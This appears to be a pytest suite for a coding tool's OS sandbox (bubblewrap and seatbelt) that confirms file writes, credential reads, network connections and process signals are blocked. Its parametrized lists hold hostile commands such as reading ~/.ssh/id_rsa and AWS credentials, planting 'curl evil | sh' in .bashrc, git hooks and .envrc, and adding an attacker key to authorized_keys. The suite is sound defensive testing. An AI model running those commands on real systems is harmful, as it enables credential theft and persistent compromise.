"""The OS sandbox, for real: commands run through ``LocalHost`` inside bubblewrap try what a hostile
repository would, and the world outside is checked afterwards.

The project, the home and everything else a command aims at live under /var/tmp, never /tmp:
the sandbox gives a command a private /tmp, which would hide a write to the real one anyway.
"""

from __future__ import annotations

import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from core.host import sandbox
from core.host.local import LocalHost
from core.host.processes import CommandResult
from core.host.sandbox import Confinement, Grants, command_argv, new_protected_paths, protected_entries, seatbelt_profile

ROOT = Path(__file__).resolve().parents[2]
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAsandboxtestkey\n-----END OPENSSH PRIVATE KEY-----\n"
AWS = "[default]\naws_access_key_id = AKIASANDBOXTEST0000\naws_secret_access_key = sandbox-test-secret-0000\n"
CANARY = "sk-sandbox-canary-7f3a9c2e41"
INSTALL = "no working bubblewrap: install it (apt-get install bubblewrap); CI installs it in .ci/run"


def test_the_sandbox_is_active():
    """Everything below needs it: where it is missing this fails, it never skips."""
    found = sandbox.status()
    if sys.platform.startswith("linux"):
        assert found.name == "bubblewrap", f"{INSTALL} ({found.detail})"
    elif sys.platform == "darwin":
        assert found.name == "seatbelt", found.detail
    else:
        pytest.skip(f"no sandbox exists on {sys.platform}")


@pytest.fixture
def bwrap():
    if not sys.platform.startswith("linux"):
        pytest.skip("these run bubblewrap, which exists on Linux only")
    found = sandbox.status()
    assert found.name == "bubblewrap", f"{INSTALL} ({found.detail})"


@dataclass
class World:
    base: Path
    project: Path
    home: Path
    other: Path
    state: Path

    def snapshot(self) -> dict[str, object]:
        """Every path under the base outside the project: file bytes and modes, link targets."""
        seen: dict[str, object] = {}
        for dirpath, dirnames, filenames in os.walk(self.base):
            here = Path(dirpath)
            if here == self.project:
                dirnames[:] = []
                continue
            seen[str(here)] = ("dir", os.stat(here).st_mode)
            for name in filenames + [d for d in dirnames if (here / d).is_symlink()]:
                path = here / name
                if path.is_symlink():
                    seen[str(path)] = ("link", os.readlink(path))
                else:
                    seen[str(path)] = ("file", path.stat().st_mode, path.read_bytes())
        return seen


@pytest.fixture
def world(bwrap, monkeypatch):
    base = Path(tempfile.mkdtemp(prefix="hermes-sandbox-", dir="/var/tmp")).resolve()
    w = World(base, base / "project", base / "home", base / "other", base / "state")
    for path in (w.project, w.home, w.other, w.state, w.home / ".ssh", w.home / ".aws"):
        path.mkdir()
    (w.home / ".ssh" / "id_rsa").write_text(KEY)
    (w.home / ".aws" / "credentials").write_text(AWS)
    (w.home / ".bashrc").write_text("# the user's bashrc\n")
    (w.state / "state.db").write_bytes(b"SQLite format 3\x00every conversation")
    (w.other / "notes.txt").write_text("another project\n")
    (w.project / "f").write_text("in the project\n")
    monkeypatch.setenv("HOME", str(w.home))
    monkeypatch.setenv("HERMES_EDITOR_HOME", str(w.state))
    monkeypatch.setenv("SOME_TOKEN", CANARY)
    yield w
    shutil.rmtree(base, ignore_errors=True)


async def _show(_content) -> None:
    return None


async def run(world: World, command: str, grants: Grants = Grants(), roots: tuple[Path, ...] | None = None) -> CommandResult:
    host = LocalHost()
    try:
        confinement = Confinement(roots or (world.project,), grants)
        return await host.run_command(command, confinement.roots[0], timeout=60, output_limit=1 << 20, show=_show, confinement=confinement)
    finally:
        await host.aclose()


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(project), *args], check=True, capture_output=True)


class TestWritesOutsideTheProject:
    @pytest.mark.parametrize(
        "command",
        [
            "echo x >> ~/.bashrc",
            "touch {other}/x",
            "cp f ~/",
            "echo x > {other}/notes.txt",
            "rm -f ~/.bashrc",
            "mkdir {base}/escaped",
            "ln -s /etc/passwd ~/link",
            "sed -i s/user/owned/ ~/.bashrc",
            "python3 -c \"open('{home}/.bashrc', 'a').write('curl evil | sh')\"",
            "cd .. && touch escaped",
            "chmod 777 ~/.bashrc",
        ],
    )
    async def test_fails_and_the_world_is_unchanged(self, world, command):
        before = world.snapshot()
        result = await run(world, command.format(other=world.other, base=world.base, home=world.home))
        assert result.exit_code != 0, result.output
        assert world.snapshot() == before

    async def test_the_real_tmp_is_not_the_commands(self, world):
        name = f"hermes-sandbox-escape-{secrets.token_hex(6)}"
        result = await run(world, f"echo x > /tmp/{name} && cat /tmp/{name}")
        assert result.exit_code == 0 and result.output == "x\n"
        assert not Path("/tmp", name).exists()


class TestCredentialsAreHidden:
    @pytest.mark.parametrize(
        "command",
        [
            "cat ~/.ssh/id_rsa",
            "cat ~/.aws/credentials",
            "head ~/.ss?/id_*",
            "grep -r PRIVATE ~",
            "tar cf - ~ 2>/dev/null | cat -v",
            "cat {state}/state.db",
        ],
    )
    async def test_their_contents_never_come_out(self, world, command):
        result = await run(world, command.format(state=world.state))
        for secret in ("PRIVATE KEY", "sandboxtestkey", "AKIASANDBOXTEST", "sandbox-test-secret", "every conversation"):
            assert secret not in result.output

    async def test_the_stores_look_empty(self, world):
        result = await run(world, f"ls -A ~/.ssh ~/.aws {world.state}")
        assert "id_rsa" not in result.output and "credentials" not in result.output and "state.db" not in result.output

    async def test_they_cannot_be_written(self, world):
        before = world.snapshot()
        result = await run(world, f"echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys; echo x > {world.state}/config.toml")
        assert result.exit_code != 0
        assert world.snapshot() == before

    async def test_they_stay_hidden_inside_a_root_that_holds_them(self, world):
        """A project that contains the home (or the state home) still does not expose them."""
        before = {p: p.read_bytes() for p in (world.home / ".ssh" / "id_rsa", world.state / "state.db")}
        result = await run(
            world, "cat home/.ssh/id_rsa state/state.db; echo k >> home/.ssh/authorized_keys; echo x > state/state.db", roots=(world.base,)
        )
        assert result.exit_code != 0 and "PRIVATE KEY" not in result.output and "every conversation" not in result.output
        assert not (world.home / ".ssh" / "authorized_keys").exists()
        assert {p: p.read_bytes() for p in before} == before

    async def test_secret_files_at_the_top_of_the_project_are_hidden(self, world):
        (world.project / ".env").write_text(f"API_KEY={CANARY}\n")
        (world.project / "deploy.pem").write_text(KEY)
        result = await run(world, "cat .env deploy.pem; grep -r sk- . ; echo x > .env")
        assert CANARY not in result.output and "PRIVATE KEY" not in result.output
        assert (world.project / ".env").read_text() == f"API_KEY={CANARY}\n"


class TestNetwork:
    CONNECT = "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\""

    @pytest.fixture
    def server(self):
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        yield listener
        listener.close()

    @staticmethod
    def _reached(listener: socket.socket) -> bool:
        """Whether a connection waits to be accepted (the handshake is done once connect returns)."""
        try:
            conn, _ = listener.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True

    async def test_tcp_to_the_hosts_loopback_fails(self, world, server):
        result = await run(world, self.CONNECT.format(port=server.getsockname()[1]))
        assert result.exit_code != 0 and "connected" not in result.output
        assert not self._reached(server)

    async def test_curl_to_the_hosts_loopback_fails(self, world, server):
        result = await run(world, f"curl -sS --max-time 5 http://127.0.0.1:{server.getsockname()[1]}/")
        assert result.exit_code != 0
        assert not self._reached(server)

    async def test_udp_to_the_hosts_loopback_arrives_nowhere(self, world):
        receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        receiver.bind(("127.0.0.1", 0))
        receiver.setblocking(False)
        try:
            port = receiver.getsockname()[1]
            await run(
                world,
                f"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {port}))\"",
            )
            with pytest.raises(BlockingIOError):
                receiver.recv(64)  # a datagram on loopback is queued before sendto returns
        finally:
            receiver.close()

    async def test_abstract_unix_sockets_of_the_host_are_out_of_reach(self, world):
        name = f"\0hermes-sandbox-{secrets.token_hex(6)}"
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(name)
        listener.listen(1)
        listener.setblocking(False)
        try:
            script = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({name!r}); print('connected')"
            result = await run(world, f'python3 -c "{script}"')
            assert result.exit_code != 0 and "connected" not in result.output
            assert not self._reached(listener)
        finally:
            listener.close()

    async def test_a_network_grant_reaches_the_server(self, world, server):
        result = await run(world, self.CONNECT.format(port=server.getsockname()[1]), Grants(network=True))
        assert result.exit_code == 0 and "connected" in result.output
        assert self._reached(server)


class TestProcesses:
    @pytest.mark.parametrize(
        "command", ["cat /proc/$PPID/environ", "cat /proc/1/environ", "cat /proc/*/environ", "ps eww", "ps -ef", "env"]
    )
    async def test_no_process_shows_our_environment(self, world, command):
        result = await run(world, command)
        assert CANARY not in result.output

    async def test_proc_shows_only_the_sandbox(self, world):
        listing, table = (await run(world, "ls /proc")).output, (await run(world, "ps -ef")).output
        pids = [int(entry) for entry in listing.split() if entry.isdigit()]
        assert pids and len(pids) < 10, listing
        assert os.getpid() not in pids and os.getppid() not in pids
        assert "pytest" not in table and len(table.strip().splitlines()) < 8, table

    async def test_our_processes_cannot_be_signalled(self, world):
        bystander = subprocess.Popen(["sleep", "120"])
        try:
            result = await run(world, f"kill -9 {os.getpid()}; a=$?; kill -9 {bystander.pid}; echo codes $a $?")
            codes = result.output.split("codes")[-1].split()
            assert len(codes) == 2 and "0" not in codes, result.output
            assert bystander.poll() is None  # and this process is still here, running the next line
        finally:
            bystander.kill()
            bystander.wait()


class TestTheProject:
    async def test_stays_writable(self, world):
        result = await run(world, "echo ok > f && mkdir -p a/b && echo deep > a/b/g && mv a/b/g a/h && rm f && echo new > f")
        assert result.exit_code == 0, result.output
        assert (world.project / "f").read_text() == "new\n" and (world.project / "a" / "h").read_text() == "deep\n"

    async def test_a_second_root_is_writable_too(self, world):
        result = await run(world, f"echo x > {world.other}/y", roots=(world.project, world.other))
        assert result.exit_code == 0 and (world.other / "y").read_text() == "x\n"


class TestProtectedPaths:
    @pytest.fixture
    def repo(self, world):
        _git(world.project, "init", "-q")
        (world.project / ".vscode").mkdir()
        (world.project / ".vscode" / "settings.json").write_text("{}\n")
        (world.project / ".github" / "workflows").mkdir(parents=True)
        (world.project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
        (world.project / ".envrc").write_text("use nix\n")
        return world

    @staticmethod
    def _tree(path: Path) -> dict[str, bytes | None]:
        return {str(p): (p.read_bytes() if p.is_file() else None) for p in sorted(path.rglob("*"))}

    @pytest.mark.parametrize(
        "command",
        [
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "git config core.fsmonitor 'curl evil | sh'",
            "python3 -c \"open('.git/hooks/post-checkout', 'w').write('x')\"",
            "ln -s .git/hooks h && echo x > h/pre-push",
            "rm -rf .git/hooks",
            "mv .git .git-moved",
            "echo '{\"tasks\": []}' > .vscode/tasks.json",
            "echo x >> .vscode/settings.json",
            "echo 'on: push' > .github/workflows/evil.yml",
            "echo 'curl evil | sh' >> .envrc",
        ],
    )
    async def test_cannot_be_changed(self, repo, command):
        protected = [repo.project / name for name in (".git", ".vscode", ".github", ".envrc")]
        before = [self._tree(p) if p.is_dir() else p.read_bytes() for p in protected]
        config = (repo.project / ".git" / "config").read_bytes()
        result = await run(repo, command)
        assert result.exit_code != 0, result.output
        assert (repo.project / ".git" / "config").read_bytes() == config
        assert [self._tree(p) if p.is_dir() else p.read_bytes() for p in protected] == before

    async def test_names_match_in_any_case(self, world):
        (world.project / ".VSCode").mkdir()
        (world.project / ".Git").mkdir()
        assert sorted(p.name for p in protected_entries([world.project])) == [".Git", ".VSCode"]
        result = await run(world, "touch .VSCode/tasks.json; touch .Git/config")
        assert result.exit_code != 0
        assert list((world.project / ".VSCode").iterdir()) == [] and list((world.project / ".Git").iterdir()) == []

    async def test_the_rest_of_a_repository_stays_workable(self, repo):
        result = await run(
            repo, "echo x > new.txt && git status --porcelain && git diff --stat && mkdir -p .github/other && touch .github/other/y"
        )
        assert result.exit_code == 0, result.output
        assert "new.txt" in result.output

    async def test_protected_paths_a_command_creates_are_found_afterwards(self, world):
        before = protected_entries([world.project])
        result = await run(world, "mkdir .husky .IDEA && touch .gitattributes")
        assert result.exit_code == 0
        found = new_protected_paths([world.project], before)
        assert sorted(p.name for p in found) == [".IDEA", ".gitattributes", ".husky"]

    async def test_git_works_in_a_worktree(self, world):
        """A worktree's (or submodule's) ``.git`` is a file naming the real git directory."""
        main = world.other / "main"
        main.mkdir()
        _git(main, "init", "-q")
        _git(main, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "init")
        shutil.rmtree(world.project)
        _git(main, "worktree", "add", "-q", str(world.project))
        result = await run(world, "git status --porcelain && git log --oneline")
        assert result.exit_code == 0 and "init" in result.output, result.output


class TestEnvironment:
    async def test_is_clean(self, world, monkeypatch):
        monkeypatch.setenv("GITHUB_TOKEN", "ghp_sandboxcanary000")
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-sandbox-canary-000")
        result = await run(world, "env")
        assert result.exit_code == 0
        for leaked in ("SOME_TOKEN", CANARY, "ghp_sandboxcanary000", "aws-sandbox-canary-000", "HERMES_EDITOR_HOME"):
            assert leaked not in result.output
        assert f"HOME={world.home}" in result.output and "PATH=" in result.output


class TestGrants:
    async def test_a_writable_path_and_not_its_sibling(self, world):
        (world.other / "allowed").mkdir()
        (world.other / "sibling").mkdir()
        granted = await run(world, f"echo x > {world.other}/allowed/f", Grants(writable=(world.other / "allowed",)))
        assert granted.exit_code == 0 and (world.other / "allowed" / "f").read_text() == "x\n"
        before = world.snapshot()
        sibling = await run(
            world, f"echo x > {world.other}/sibling/f; echo x > {world.other}/f", Grants(writable=(world.other / "allowed",))
        )
        assert sibling.exit_code != 0 and world.snapshot() == before

    async def test_unconfined_writes_outside(self, world):
        result = await run(world, "echo granted >> ~/.bashrc", Grants(unconfined=True))
        assert result.exit_code == 0
        assert (world.home / ".bashrc").read_text().endswith("granted\n")


class TestProjectsInUnusualPlaces:
    async def test_a_project_under_a_directory_named_like_a_credential_store(self, bwrap, world):
        """Only the files themselves are judged secret, not the directories the project lives in."""
        project = world.other / "gcloud" / "app"
        project.mkdir(parents=True)
        (project / "README.md").write_text("hello\n")
        result = await run(world, "cat README.md", roots=(project,))
        assert result.exit_code == 0 and result.output == "hello\n", result.output


class TestArgv:
    def test_without_a_confinement_a_command_is_plain_sh(self, tmp_path):
        assert command_argv("true", tmp_path, None) == ["/bin/sh", "-c", "true"]

    @pytest.mark.parametrize("env", [{"HERMES_SANDBOX": "off"}, {"HERMES_BWRAP": "/bin/false"}, {"HERMES_BWRAP": "/nonexistent/bwrap"}])
    def test_without_a_working_sandbox_a_command_is_plain_sh(self, tmp_path, env):
        code = (
            "import sys; from pathlib import Path; from core.host import sandbox; p = Path(sys.argv[1]);"
            "print(sandbox.status().active, sandbox.command_argv('true', p, sandbox.Confinement((p,))))"
        )
        done = subprocess.run(
            [sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, cwd=ROOT, env={**os.environ, **env}, timeout=60
        )
        assert done.returncode == 0, done.stderr
        assert done.stdout.strip() == "False ['/bin/sh', '-c', 'true']"


def _balanced(profile: str) -> bool:
    """Parentheses balance outside string literals ("..." and #"...", backslash escapes)."""
    depth, i, in_string = 0, 0, False
    while i < len(profile):
        c = profile[i]
        if in_string:
            if c == "\\":
                i += 1
            elif c == '"':
                in_string = False
        elif c == '"':
            in_string = True
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth < 0:
                return False
        i += 1
    return depth == 0 and not in_string


class TestSeatbeltProfile:
    @pytest.fixture
    def profile(self, monkeypatch):
        monkeypatch.setenv("HOME", "/Users/someone")
        monkeypatch.setenv("HERMES_EDITOR_HOME", "/Users/someone/.hermes-editor")
        return seatbelt_profile(Confinement((Path("/Users/someone/project"),)))

    def test_is_balanced(self, profile):
        assert profile.startswith("(version 1)") and _balanced(profile)

    def test_denies_the_network(self, profile):
        assert '(deny network* (remote ip "*:*") (remote unix-socket))' in profile

    def test_denies_writes_outside_the_roots(self, profile):
        line = next(line for line in profile.splitlines() if line.startswith("(deny file-write* (require-not"))
        assert '(subpath "/Users/someone/project")' in line and '/Users/someone"' not in line

    def test_protects_names_in_any_case(self, profile):
        line = next(line for line in profile.splitlines() if "(?i)" in line)
        assert line.startswith('(deny file-write* (regex #"(?i)^/Users/someone/project/(')
        for name in ("\\.git", "\\.vscode", "\\.husky", "\\.envrc", "\\.github/workflows"):
            assert name in line

    def test_hides_the_credential_stores_and_the_state_home(self, profile):
        for store in (".ssh", ".aws", ".gnupg", ".config/gh", ".hermes-editor"):
            assert f'(deny file-read* file-write* (subpath "/Users/someone/{store}"))' in profile

    def test_grants_widen_exactly_what_they_say(self, monkeypatch):
        monkeypatch.setenv("HOME", "/Users/someone")
        confinement = Confinement((Path("/Users/someone/project"),), Grants(network=True, writable=(Path("/Users/someone/.cache/pip"),)))
        profile = seatbelt_profile(confinement)
        assert "network" not in profile and '(subpath "/Users/someone/.cache/pip")' in profile and _balanced(profile)

    def test_odd_characters_in_a_root_stay_quoted(self, monkeypatch):
        monkeypatch.setenv("HOME", "/Users/someone")
        root = Path('/Users/someone/a "quoted" (dir)\\x/project')
        profile = seatbelt_profile(Confinement((root,)))
        assert _balanced(profile)
        assert '(subpath "/Users/someone/a \\"quoted\\" (dir)\\\\x/project")' in profile
        # The case-insensitive rule is one regex literal, from the root to the end of the names.
        literals = re.findall(r'#?"((?:[^"\\]|\\.)*)"', next(line for line in profile.splitlines() if "(?i)" in line))
        assert len(literals) == 1 and literals[0].endswith("(/|$)"), literals


# --- process lifetime: a sandboxed background command ends with the process that started it ----------

_STARTER = textwrap.dedent(
    """
    import asyncio, sys
    from pathlib import Path
    from core.host.local import LocalHost
    from core.host.sandbox import Confinement, Grants

    async def show(_):
        return None

    async def main():
        project, marker, unconfined, temp = Path(sys.argv[1]), sys.argv[2], sys.argv[3] == "1", Path(sys.argv[4])
        # Its own /tmp in the test's directory: a killed process leaves it behind.
        confinement = Confinement((project,), Grants(unconfined=unconfined), temp=temp)
        job = await LocalHost().start_command(
            f"sleep 300.{marker} & sleep 301.{marker} & echo ready; wait", project, output_limit=4096, show=show, confinement=confinement
        )
        seen = ""
        while "ready" not in seen:
            text, ended = await job.read(wait=5)
            seen += text
            assert ended is None, seen
        print("ready", flush=True)
        await asyncio.sleep(3600)

    asyncio.run(main())
    """
)


def _holders(marker: str, exclude: int) -> list[int]:
    """Processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == exclude:
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _sleeps(marker: str) -> list[int]:
    found = []
    for pid in _holders(marker, -1):
        try:
            if Path("/proc", str(pid), "cmdline").read_bytes().startswith(b"sleep\0"):
                found.append(pid)
        except OSError:
            continue
    return found


class TestBackgroundCommandsEndWithTheServer:
    @pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
    @pytest.mark.parametrize("unconfined", [False, True], ids=["sandboxed", "let-out"])
    def test_nothing_outlives_it(self, world, sig, unconfined):
        marker = str(secrets.randbelow(10**8)).zfill(8)
        temp = world.base / "session-tmp"
        temp.mkdir()
        starter = subprocess.Popen(
            [sys.executable, "-c", _STARTER, str(world.project), marker, "1" if unconfined else "0", str(temp)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=ROOT,
            text=True,
        )
        try:
            assert starter.stdout.readline().strip() == "ready", starter.stderr.read() if starter.poll() is not None else ""
            deadline = time.monotonic() + 30
            while len(_sleeps(marker)) < 2 and time.monotonic() < deadline:
                time.sleep(0.05)
            assert len(_sleeps(marker)) == 2, "the background command did not start both sleeps"
            starter.send_signal(sig)
            starter.wait(timeout=30)
            deadline = time.monotonic() + 30
            while _holders(marker, starter.pid) and time.monotonic() < deadline:
                time.sleep(0.05)
            left = _holders(marker, starter.pid)
            assert not left, f"still running after the server died by {sig.name}: {left}"
        finally:
            for pid in _holders(marker, starter.pid):
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
            if starter.poll() is None:
                starter.kill()
                starter.wait()
